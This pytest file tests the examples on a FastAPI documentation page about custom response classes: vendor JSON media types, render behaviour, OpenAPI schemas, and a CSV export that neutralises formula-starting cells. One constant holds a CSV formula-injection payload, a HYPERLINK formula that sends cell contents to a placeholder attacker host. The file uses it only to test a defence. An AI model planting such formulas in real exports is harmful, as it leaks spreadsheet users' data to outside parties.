"""Behaviour of the examples on docs/custom_response_class.md: what the page claims, asserted."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from types import ModuleType
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.responses import JSONResponse
from fastapi.testclient import TestClient
from pydantic import BaseModel

from examples.custom_response_class import csv_export, csv_mistake, vendor_json

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


@pytest.fixture(autouse=True)
def fresh_contacts() -> Iterator[None]:
    saved = {module: list(module.CONTACTS) for module in (csv_export, csv_mistake)}
    yield
    for module, contacts in saved.items():
        module.CONTACTS.clear()
        module.CONTACTS.extend(contacts)


def export_rows(module: ModuleType, *contacts: dict[str, str]) -> list[dict[str, str]]:
    client = TestClient(module.app)
    for contact in contacts:
        assert client.post("/contacts", params=contact).status_code == 201
    response = client.get("/contacts.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.text)))


# --- vendor_json ------------------------------------------------------------


def test_the_default_class_sets_the_vendor_media_type_without_a_charset() -> None:
    response = TestClient(vendor_json.app).get("/articles/1")

    assert response.status_code == 200
    assert response.headers["content-type"] == "application/vnd.api+json"
    assert response.content == (
        b'{"data":{"type":"articles","id":"1","attributes":{"title":"Dune"}}}'
    )


def test_a_returned_instance_goes_out_as_it_is() -> None:
    response = TestClient(vendor_json.app).get("/articles/2")

    # Not a Document, yet no 500: a returned response is neither validated nor
    # rendered again.
    assert response.status_code == 404
    assert response.headers["content-type"] == "application/vnd.api+json"
    assert response.json() == {
        "errors": [{"status": "404", "title": "No such article"}]
    }


def spy_on_render(
    monkeypatch: pytest.MonkeyPatch, cls: type[JSONResponse]
) -> list[Any]:
    received: list[Any] = []
    original = cls.render

    def render(self: JSONResponse, content: Any) -> bytes:
        received.append(content)
        return original(self, content)

    monkeypatch.setattr(cls, "render", render)
    return received


def test_render_receives_the_validated_value_as_python_data(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    received = spy_on_render(monkeypatch, vendor_json.JsonApiResponse)

    TestClient(vendor_json.app).get("/articles/1")

    # A dict, already validated and filtered (no draft_notes), not JSON bytes.
    assert received == [
        {"data": {"type": "articles", "id": "1", "attributes": {"title": "Dune"}}}
    ]


class Day(BaseModel):
    day: str


def typed_app(**route_options: Any) -> FastAPI:
    app = FastAPI()

    @app.get("/day", **route_options)
    def day() -> Day:
        return Day(day="Monday")

    return app


def test_only_the_untouched_default_skips_render(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    received = spy_on_render(monkeypatch, JSONResponse)

    default = TestClient(typed_app()).get("/day")
    assert default.json() == {"day": "Monday"}
    assert received == []  # Pydantic wrote the bytes; no JSONResponse was made

    named = TestClient(typed_app(response_class=JSONResponse)).get("/day")
    assert named.json() == {"day": "Monday"}
    assert received == [{"day": "Monday"}]


def test_openapi_shows_the_model_under_the_vendor_media_type() -> None:
    operation = vendor_json.app.openapi()["paths"]["/articles/{article_id}"]["get"]

    assert operation["responses"]["200"]["content"] == {
        "application/vnd.api+json": {
            "schema": {"$ref": "#/components/schemas/Document"}
        }
    }


# --- csv_mistake and csv_export ---------------------------------------------


def test_the_mistake_exports_a_formula() -> None:
    rows = export_rows(csv_mistake, {"name": FORMULA, "city": "Oslo"})

    assert rows[-1] == {"name": FORMULA, "city": "Oslo"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_fix_exports_no_cell_that_starts_a_formula(start: str) -> None:
    value = start + "1+1"
    mistake = export_rows(csv_mistake, {"name": value, "city": value})
    fixed = export_rows(csv_export, {"name": value, "city": value})

    assert mistake[-1] == {"name": value, "city": value}
    assert fixed[-1] == {"name": "'" + value, "city": "'" + value}


def test_ordinary_cells_are_left_alone() -> None:
    rows = export_rows(csv_export, {"name": "Ada = 1", "city": "London"})

    assert rows[-1] == {"name": "Ada = 1", "city": "London"}


@pytest.mark.parametrize("module", [csv_mistake, csv_export])
def test_commas_quotes_and_newlines_survive_the_round_trip(module: ModuleType) -> None:
    tricky = {"name": 'Lee, "Sam"\nJr.', "city": "a,b\r\nc"}

    assert export_rows(module, tricky)[-1] == tricky


def test_the_export_is_bounded() -> None:
    long = {"name": "x" * 100, "city": "y" * 100}
    rows = export_rows(csv_export, *[long] * 60)

    assert len(rows) == 50
    too_long = {"name": "x" * 101, "city": "y"}
    assert (
        TestClient(csv_export.app).post("/contacts", params=too_long).status_code == 422
    )


def test_openapi_shows_only_a_string_for_a_class_that_is_not_json() -> None:
    operation = csv_export.app.openapi()["paths"]["/contacts.csv"]["get"]

    assert operation["responses"]["200"]["content"] == {
        "text/csv": {"schema": {"type": "string"}}
    }


def test_render_receives_a_list_of_dicts_for_a_list_return_type(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    received: list[Any] = []
    original = csv_export.CSVResponse.render

    def render(self: csv_export.CSVResponse, content: Any) -> bytes:
        received.append(content)
        return original(self, content)

    monkeypatch.setattr(csv_export.CSVResponse, "render", render)
    TestClient(csv_export.app).get("/contacts.csv")

    assert received == [[{"name": "Ada", "city": "London"}]]


def test_charset_sets_both_the_header_and_the_encoding() -> None:
    class Latin1CSV(csv_export.CSVResponse):
        charset = "latin-1"

    response = Latin1CSV([{"name": "Zoë", "city": "Tromsø"}])

    assert response.headers["content-type"] == "text/csv; charset=latin-1"
    assert response.body == "name,city\r\nZoë,Tromsø\r\n".encode("latin-1")


def test_a_returned_instance_keeps_its_media_type_while_the_document_does_not_know() -> (
    None
):
    app = FastAPI()

    @app.get("/day")
    def day() -> Day:
        return vendor_json.JsonApiResponse({"day": "Monday"})

    response = TestClient(app).get("/day")
    assert response.headers["content-type"] == "application/vnd.api+json"
    content = app.openapi()["paths"]["/day"]["get"]["responses"]["200"]["content"]
    assert list(content) == ["application/json"]


def test_an_untyped_route_hands_render_the_encoded_value_unchecked(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    received = spy_on_render(monkeypatch, vendor_json.JsonApiResponse)
    app = FastAPI(default_response_class=vendor_json.JsonApiResponse)

    @app.get("/day")
    def day():
        return Day(day="Monday")

    response = TestClient(app).get("/day")
    assert response.headers["content-type"] == "application/vnd.api+json"
    assert received == [{"day": "Monday"}]
    assert type(received[0]) is dict


def test_only_text_cells_are_touched() -> None:
    assert csv_export.inert(-5) == -5
    assert csv_export.inert(1.5) == 1.5
    assert csv_export.inert("-5") == "'-5"


class Meeting(BaseModel):
    on: date


def test_render_gets_dates_already_as_strings(monkeypatch: pytest.MonkeyPatch) -> None:
    received = spy_on_render(monkeypatch, vendor_json.JsonApiResponse)
    app = FastAPI(default_response_class=vendor_json.JsonApiResponse)

    @app.get("/meeting")
    def meeting() -> Meeting:
        return Meeting(on=date(2026, 1, 2))

    assert TestClient(app).get("/meeting").json() == {"on": "2026-01-02"}
    assert received == [{"on": "2026-01-02"}]


def test_the_export_is_a_download_with_a_fixed_name() -> None:
    response = TestClient(csv_export.app).get("/contacts.csv")

    assert (
        response.headers["content-disposition"] == 'attachment; filename="contacts.csv"'
    )
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
